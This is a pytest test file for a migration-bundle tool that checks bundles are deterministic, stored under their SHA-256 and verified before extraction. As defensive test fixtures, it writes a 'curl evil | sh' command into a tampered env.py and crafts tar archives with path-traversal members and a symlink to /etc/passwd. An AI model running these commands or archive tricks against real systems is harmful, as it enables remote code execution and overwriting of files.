"""The migration bundle: deterministic, content-addressed, verified before it is extracted."""

from __future__ import annotations

import hashlib
import io
import shutil
import tarfile
from pathlib import Path

import pytest
from migsafe import bundle
from migsafe.cli_aws import bundle_app
from migsafe.exceptions import ChecksumMismatch, InputError, PlanInvalid
from migsafe.plan import Plan
from migsafe.store import FileStore
from typer.testing import CliRunner

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "enum_uppercase"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The example alembic project, plus a models package, a cache folder and a requirements file."""
    root = tmp_path / "project"
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns("__pycache__", "backups"))
    (root / "app" / "models").mkdir(parents=True)
    (root / "app" / "models" / "__init__.py").write_text("STATUS = ('ACTIVE', 'INACTIVE')\n")
    (root / "migrations" / "__pycache__").mkdir(exist_ok=True)
    (root / "migrations" / "__pycache__" / "env.cpython-311.pyc").write_bytes(b"\0cache")
    (root / "requirements.txt").write_text("# the project's own dependencies would be listed here\n")
    return root


def _plan(root: Path, bundle_paths: list[str] | None = None) -> Plan:
    return Plan.from_mapping({
        "source": {"dsn_env": "DATABASE_URL", "tables": ["public.users"]},
        "migration": {"alembic_ini": "alembic.ini", "bundle": bundle_paths or ["app/models"]},
    }, root)


@pytest.fixture
def store(tmp_path: Path) -> FileStore:
    path = tmp_path / "store"
    path.mkdir()
    return FileStore(path, url=f"file://{path}")


def test_bundle_holds_the_alembic_dir_bundle_paths_and_requirements_only(project: Path) -> None:
    # Given the example project and a plan listing app/models
    plan = _plan(project)
    # When the bundle is built
    _, names = bundle.build(plan)
    # Then it has alembic.ini, the script directory, the listed paths and requirements.txt, without caches
    assert "alembic.ini" in names and "requirements.txt" in names
    assert "migrations/env.py" in names and "migrations/versions/0002_uppercase_enums.py" in names
    assert "app/models/__init__.py" in names
    assert not any("__pycache__" in n or n.endswith(".pyc") for n in names)
    assert "plan.toml" not in names and "schema.sql" not in names


def test_the_same_code_always_gives_the_same_digest(project: Path) -> None:
    # Given a bundle built once
    first, _ = bundle.build(_plan(project))
    # When files are touched (new mtimes, modes) but not changed, and it is built again
    for path in project.rglob("*.py"):
        path.touch()
        path.chmod(0o600)
    second, _ = bundle.build(_plan(project))
    # Then the bytes are identical; a changed file changes them
    assert first == second
    (project / "migrations" / "env.py").write_text((project / "migrations" / "env.py").read_text() + "# edit\n")
    third, _ = bundle.build(_plan(project))
    assert third != first


def test_push_stores_the_bundle_under_its_sha256_once(project: Path, store: FileStore) -> None:
    # Given a plan
    plan = _plan(project)
    # When it is pushed twice
    pushed = bundle.push(plan, store)
    again = bundle.push(plan, store)
    # Then it is stored at bundles/<sha256>.tar.gz, whose bytes hash to the name; the second push writes nothing
    assert pushed.key == f"bundles/{pushed.sha256}.tar.gz"
    assert hashlib.sha256(store.get_bytes(pushed.key)).hexdigest() == pushed.sha256
    assert pushed.uploaded is True and again.uploaded is False and again.sha256 == pushed.sha256


def test_fetch_verifies_and_extracts_the_bundle(project: Path, store: FileStore, tmp_path: Path) -> None:
    # Given a pushed bundle
    pushed = bundle.push(_plan(project), store)
    # When it is fetched into a new folder
    dest = bundle.fetch(store, pushed.sha256, tmp_path / "worker")
    # Then the files are there, byte for byte, and a plan based there finds its alembic.ini
    for name in pushed.files:
        assert (dest / name).read_bytes() == (project / name).read_bytes()
    assert _plan(dest).path("alembic.ini").is_file()


def test_a_tampered_bundle_is_refused_before_anything_is_extracted(
    project: Path, store: FileStore, tmp_path: Path
) -> None:
    # Given a pushed bundle whose stored bytes were replaced
    pushed = bundle.push(_plan(project), store)
    (project / "migrations" / "env.py").write_text("import os\nos.system('curl evil | sh')\n")
    other, _ = bundle.build(_plan(project))
    store.put_bytes(pushed.key, other)
    # When the worker fetches it
    with pytest.raises(ChecksumMismatch, match="sha256"):
        bundle.fetch(store, pushed.sha256, tmp_path / "worker")
    # Then nothing was extracted
    assert not any((tmp_path / "worker").glob("**/*.py"))


def _evil(member: tarfile.TarInfo, data: bytes = b"print('owned')\n") -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        member.size = len(data) if member.isfile() else 0
        tar.addfile(member, io.BytesIO(data) if member.isfile() else None)
    return raw.getvalue()


@pytest.mark.parametrize("member", [
    tarfile.TarInfo("../escaped.py"),
    tarfile.TarInfo("/tmp/absolute.py"),
    tarfile.TarInfo("migrations/../../escaped.py"),
])
def test_members_that_escape_the_folder_are_refused(member: tarfile.TarInfo, store: FileStore, tmp_path: Path) -> None:
    # Given a bundle stored under its true digest whose member points outside the folder
    data = _evil(member)
    digest = hashlib.sha256(data).hexdigest()
    store.put_bytes(bundle.bundle_key(digest), data)
    # When it is fetched
    with pytest.raises(ChecksumMismatch, match="escapes"):
        bundle.fetch(store, digest, tmp_path / "worker" / "bundle")
    # Then no file was written anywhere
    assert not (tmp_path / "worker" / "escaped.py").exists() and not (tmp_path / "escaped.py").exists()


def test_links_in_a_bundle_are_refused(store: FileStore, tmp_path: Path) -> None:
    # Given a bundle with a symlink to /etc/passwd
    link = tarfile.TarInfo("migrations/env.py")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    data = _evil(link)
    digest = hashlib.sha256(data).hexdigest()
    store.put_bytes(bundle.bundle_key(digest), data)
    # When it is fetched, then it is refused and nothing is created
    with pytest.raises(ChecksumMismatch, match="link"):
        bundle.fetch(store, digest, tmp_path / "worker")
    assert not (tmp_path / "worker" / "migrations").exists()


def test_a_missing_bundle_or_a_malformed_digest_is_bad_input(store: FileStore, tmp_path: Path) -> None:
    # Given an empty store
    # When fetching an unknown digest or a malformed one
    with pytest.raises(InputError, match="bundle push"):
        bundle.fetch(store, "a" * 64, tmp_path / "w")
    with pytest.raises(InputError, match="not a bundle digest"):
        bundle.fetch(store, "../../etc", tmp_path / "w")
    # Then both are input errors (exit 2), not faults


def test_bundle_paths_outside_the_plan_folder_are_refused(project: Path, tmp_path: Path) -> None:
    # Given a plan that lists a folder outside its own
    (tmp_path / "secrets").mkdir()
    plan = _plan(project, ["../secrets"])
    # When the bundle is built, then it is refused
    with pytest.raises(PlanInvalid, match="outside the plan's folder"):
        bundle.build(plan)


def test_requirements_are_installed_into_a_separate_virtualenv(project: Path, tmp_path: Path) -> None:
    # Given a bundle folder with a requirements.txt (no packages, so no network is needed)
    # When the worker installs it
    python = bundle.install_requirements(project, tmp_path / "venv")
    # Then a new interpreter exists in its own venv, not the worker's
    assert python is not None and python.exists()
    assert python.parent.parent == tmp_path / "venv"
    assert (tmp_path / "venv" / "pyvenv.cfg").read_text().count("include-system-site-packages = true") == 1
    # and a bundle without requirements gets no venv at all
    (project / "requirements.txt").unlink()
    assert bundle.install_requirements(project, tmp_path / "venv2") is None
    assert not (tmp_path / "venv2").exists()


def test_bundle_push_command_prints_the_digest(project: Path, store: FileStore) -> None:
    # Given a plan file in the project whose store is the test store
    plan_file = project / "aws-plan.toml"
    plan_file.write_text('[source]\ndsn_env = "DATABASE_URL"\ntables = ["public.users"]\n\n'
                         f'[migration]\nbundle = ["app/models"]\n\n[store]\nurl = "{store.url}"\n')
    # When `migsafe bundle push --plan` runs
    result = CliRunner().invoke(bundle_app, ["push", "--plan", str(plan_file)])
    # Then it prints the digest on stdout and the object is in the store
    assert result.exit_code == 0, result.output
    digest = result.stdout.strip().splitlines()[-1]
    assert store.exists(bundle.bundle_key(digest))
